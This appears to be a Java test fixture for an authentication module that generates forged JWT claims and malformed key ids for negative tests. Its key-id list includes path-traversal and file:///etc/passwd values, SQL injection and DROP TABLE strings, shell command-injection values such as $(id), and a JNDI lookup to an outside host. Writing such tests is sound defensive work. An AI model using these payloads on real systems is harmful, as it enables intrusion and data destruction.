package uptick.edge.authentication;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.UUID;

import uptick.testing.token.TestTokens;

/// Payloads and ids as text, wrong ones too.
final class ForgedClaims {

    /// The claims that a token must have.
    static final List<String> NEEDED =
            List.of("iss", "aud", "sub", "jti", "iat", "exp", "roles", "tier", "token_epoch");

    /// Ids of keys in JSON: paths, SQL, other types, ids that are nearly right.
    static final List<String> KEY_IDS =
            List.of(
                    "\"\"",
                    "\" \"",
                    "null",
                    "0",
                    "true",
                    "[\"test\"]",
                    "{\"kid\":\"test\"}",
                    "\"TEST\"",
                    "\"test \"",
                    "\"test\\u0000\"",
                    "\"te\\u200bst\"",
                    "\"test,other\"",
                    "\"*\"",
                    "\"%\"",
                    "\"/dev/null\"",
                    "\"../../../../../../dev/null\"",
                    "\"..\\\\..\\\\windows\\\\win.ini\"",
                    "\"file:///etc/passwd\"",
                    "\"https://stranger.example/key\"",
                    "\"' OR '1'='1\"",
                    "\"test'--\"",
                    "\"x' UNION SELECT '{\\\"kty\\\":\\\"RSA\\\"}'; --\"",
                    "\"'; DROP TABLE signing_keys; --\"",
                    "\"$(id)\"",
                    "\"|id\"",
                    "\"${jndi:ldap://stranger.example/a}\"",
                    "\"" + "k".repeat(2_000) + "\"");

    private ForgedClaims() {}

    /// A right payload but for some members.
    ///
    /// @param instead members in JSON; one without a value leaves the member out
    static String payload(UUID user, long now, String... instead) {
        var members = new LinkedHashMap<String, String>();
        members.put("iss", "\"" + TestTokens.ISSUER + "\"");
        members.put("aud", "\"" + TestTokens.AUDIENCE + "\"");
        members.put("sub", "\"" + user + "\"");
        members.put("jti", "\"" + new UUID(0, 1) + "\"");
        members.put("iat", Long.toString(now));
        members.put("exp", Long.toString(now + 600));
        members.put("roles", "[\"user\"]");
        members.put("tier", "\"free\"");
        members.put("token_epoch", "0");
        var rest = new ArrayList<String>();
        for (var member : instead) {
            var name = member.substring(1, member.indexOf('"', 1));
            var value = member.substring(member.indexOf(':') + 1);
            if (value.isEmpty()) {
                members.remove(name);
            } else if (members.replace(name, value) == null) {
                rest.add(member);
            }
        }
        var all = new ArrayList<String>();
        members.forEach((name, value) -> all.add("\"" + name + "\":" + value));
        all.addAll(rest);
        return "{" + String.join(",", all) + "}";
    }

    /// Members that no token of ours has, each as it would stand in one.
    static List<String> wrong(UUID user, long now) {
        var wrong = new ArrayList<String>();
        for (var seconds : List.of(31, 60, 3_600, 86_400, 1_000_000_000)) {
            wrong.add("\"exp\":" + (now - seconds));
            wrong.add("\"nbf\":" + (now + 300 + seconds));
        }
        for (var exp : List.of("0", "-1", "1e-3", "\"tomorrow\"", "[]", "{}", "true", "\"\"")) {
            wrong.add("\"exp\":" + exp);
        }
        for (var issuer :
                List.of(
                        "https://uptick.local/",
                        "http://uptick.local",
                        "HTTPS://UPTICK.LOCAL",
                        "https://uptick.local.example",
                        "https://stranger.example",
                        "uptick.local",
                        "")) {
            wrong.add("\"iss\":\"" + issuer + "\"");
        }
        wrong.add("\"iss\":[\"" + TestTokens.ISSUER + "\"]");
        for (var audience :
                List.of("\"Uptick\"", "\"uptick2\"", "\"\"", "[]", "{}", "1", "[\"another\"]")) {
            wrong.add("\"aud\":" + audience);
        }
        for (var subject :
                List.of(
                        "\"admin\"",
                        "\"\"",
                        "1",
                        "[]",
                        "{}",
                        "true",
                        "\"" + user + " \"",
                        "\"" + user + "'--\"",
                        "\"../" + user + "\"",
                        "\"{" + user + "}\"")) {
            wrong.add("\"sub\":" + subject);
        }
        for (var roles :
                List.of(
                        "\"user\"",
                        "\"admin\"",
                        "[\"owner\"]",
                        "[\"user\",\"root\"]",
                        "[1]",
                        "[null]",
                        "[[\"user\"]]",
                        "{\"user\":true}",
                        "true",
                        "[\"\"]",
                        "[\"user admin\"]")) {
            wrong.add("\"roles\":" + roles);
        }
        for (var tier : List.of("1", "[]", "{}", "true")) {
            wrong.add("\"tier\":" + tier);
        }
        for (var epoch : List.of("\"0\"", "[]", "{}", "true", "\"\"")) {
            wrong.add("\"token_epoch\":" + epoch);
        }
        return wrong;
    }

    /// Members that would stand there twice.
    static List<String> twice(UUID user) {
        return List.of(
                "\"sub\":\"" + new UUID(1, 1) + "\"",
                "\"sub\":\"" + user + "\"",
                "\"roles\":[\"user\",\"editor\",\"admin\"]",
                "\"exp\":99999999999",
                "\"token_epoch\":7",
                "\"iss\":\"" + TestTokens.ISSUER + "\"");
    }

    /// What is no JSON object.
    static List<String> noJson() {
        return List.of(
                "",
                " ",
                "null",
                "true",
                "7",
                "\"text\"",
                "[]",
                "[{}]",
                "{",
                "}",
                "{}",
                "{}{}",
                "{\"alg\":\"RS256\"",
                "{'alg':'RS256'}",
                "{alg:RS256}",
                "<xml/>",
                "\0",
                "\uFEFF{}",
                "{\"a\":".repeat(400),
                "[".repeat(1_000) + "]".repeat(1_000),
                "{\"a\":NaN}",
                "{\"\\ud800\":1}");
    }
}
